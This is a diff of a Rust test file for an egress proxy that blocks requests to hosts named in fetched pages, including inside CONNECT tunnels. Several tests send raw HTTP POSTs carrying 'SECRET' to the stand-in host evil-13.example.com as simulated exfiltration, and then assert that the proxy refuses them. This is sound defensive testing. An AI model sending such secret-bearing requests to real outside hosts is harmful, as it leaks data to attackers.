@@ -4,7 +4,6 @@
 //! host it names is refused and never reaches the upstream.
 
 use std::io::{Read, Write};
-use std::net::TcpStream;
 use std::sync::Arc;
 use std::thread;
 use std::time::{Duration, Instant};
@@ -102,6 +101,7 @@ fn pages() -> Vec<(&'static str, Page)> {
             "/hex-entities",
             (vec![], text(12, &|n| n.replace('.', "&#x2e;"))),
         ),
+        ("/plain", (vec![], plain(13))),
     ]
 }
 
@@ -218,7 +218,7 @@ fn plain_http_inside_connect_is_decided_and_scanned() {
         let mut c = tunnel(&s, &format!("docs.example.com:{p}"));
         write!(
             c,
-            "GET /cjk-glued HTTP/1.1\r\nHost: docs.example.com:{p}\r\n\r\n"
+            "GET /plain HTTP/1.1\r\nHost: docs.example.com:{p}\r\n\r\n"
         )
         .unwrap();
         let mut buf = vec![0u8; 4096];
@@ -228,27 +228,48 @@ fn plain_http_inside_connect_is_decided_and_scanned() {
             "{intercept}: {}",
             String::from_utf8_lossy(&buf[..n])
         );
-        // The page named evil-4: a POST to it is refused, through a tunnel too.
-        let mut t = tunnel(&s, &format!("evil-4.example.com:{p}"));
+        // The page named evil-13. Without interception a CONNECT to it is
+        // opaque, so it is refused up front; with interception the tunnel
+        // opens and the POST inside it is refused.
+        if intercept == "none" {
+            let ans = raw(
+                &s.proxy_addr(),
+                format!("CONNECT evil-13.example.com:{p} HTTP/1.1\r\n\r\n").as_bytes(),
+            );
+            assert_refused(&parse_http(&ans).unwrap(), 403, "untrusted-target");
+        }
+        let authority = if intercept == "none" {
+            format!("docs.example.com:{p}")
+        } else {
+            format!("evil-13.example.com:{p}")
+        };
+        let mut t = tunnel(&s, &authority);
         write!(
             t,
-            "POST /in HTTP/1.1\r\nHost: evil-4.example.com:{p}\r\nContent-Length: 6\r\n\r\nSECRET"
+            "POST http://evil-13.example.com:{p}/in HTTP/1.1\r\nHost: evil-13.example.com:{p}\r\nContent-Length: 6\r\n\r\nSECRET"
         )
         .unwrap();
         let n = t.read(&mut buf).unwrap();
         let a = parse_http(&buf[..n]).unwrap();
-        assert_refused(&a, 403, "untrusted-target");
-        assert_eq!(posts_reaching(&up, "evil-4.example.com"), 0);
+        let rule = if intercept == "none" {
+            "host-mismatch"
+        } else {
+            "untrusted-target"
+        };
+        assert_refused(&a, 403, rule);
+        assert_eq!(posts_reaching(&up, "evil-13.example.com"), 0);
         // Another authority inside the tunnel is a mismatch.
         write!(
             t,
-            "GET http://docs.example.com:{p}/ HTTP/1.1\r\nHost: docs.example.com:{p}\r\n\r\n"
+            "GET http://other.example.com:{p}/ HTTP/1.1\r\nHost: other.example.com:{p}\r\n\r\n"
         )
         .unwrap();
         let n = t.read(&mut buf).unwrap();
         assert_refused(&parse_http(&buf[..n]).unwrap(), 403, "host-mismatch");
-        let row = row_where(&s, "t", "docs.example.com", |r| r["kind"] == "intercepted");
-        assert_eq!(row["path"], "/cjk-glued");
+        let row = row_where(&s, "t", "docs.example.com", |r| {
+            r["kind"] == "intercepted" && r["path"] == "/plain"
+        });
+        assert_eq!(row["decision"], "allow");
     }
 }
 
@@ -259,15 +280,11 @@ fn an_open_tunnel_follows_a_reload_to_enforce() {
     let up = page_upstream();
     let (_dns, s) = evasion_sluice(&up, "[task.taint]\nmode = \"shadow\"\n");
     let p = up.port();
-    let a = via(
-        &s,
-        &format!("http://docs.example.com:{p}/curly-quotes"),
-        &[],
-    );
+    let a = via(&s, &format!("http://docs.example.com:{p}/plain"), &[]);
     assert_eq!(a.status, 200);
-    let mut t = tunnel(&s, &format!("evil-5.example.com:{p}"));
+    let mut t = tunnel(&s, &format!("evil-13.example.com:{p}"));
     let post = format!(
-        "POST /in HTTP/1.1\r\nHost: evil-5.example.com:{p}\r\nContent-Length: 6\r\n\r\nSECRET"
+        "POST /in HTTP/1.1\r\nHost: evil-13.example.com:{p}\r\nContent-Length: 6\r\n\r\nSECRET"
     );
     t.write_all(post.as_bytes()).unwrap();
     let mut buf = vec![0u8; 4096];
@@ -308,12 +325,12 @@ fn taint_overflow_survives_a_restart() {
     let (_dns, mut s) = evasion_sluice(&up, "[task.taint]\nmax_hosts = 1\n");
     let p = up.port();
     // Two names on pages: the second does not fit.
+    via(&s, &format!("http://docs.example.com:{p}/plain"), &[]);
     via(
         &s,
-        &format!("http://docs.example.com:{p}/curly-quotes"),
+        &format!("http://docs.example.com:{p}/custom-header"),
         &[],
     );
-    via(&s, &format!("http://docs.example.com:{p}/cjk-glued"), &[]);
     let rows = wait_rows(&s.state().join("tasks/t/taint.jsonl"), 2);
     assert!(
         rows.iter().any(|r| r["event"] == "taint-overflow"),
